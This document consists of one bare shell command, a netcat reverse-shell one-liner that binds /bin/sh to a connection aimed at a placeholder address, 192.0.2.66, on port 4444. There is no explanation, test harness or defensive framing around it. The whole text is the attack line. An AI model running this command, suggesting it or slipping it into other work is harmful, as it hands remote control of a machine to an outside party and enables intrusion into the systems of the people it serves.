nc -e /bin/sh 192.0.2.66 4444
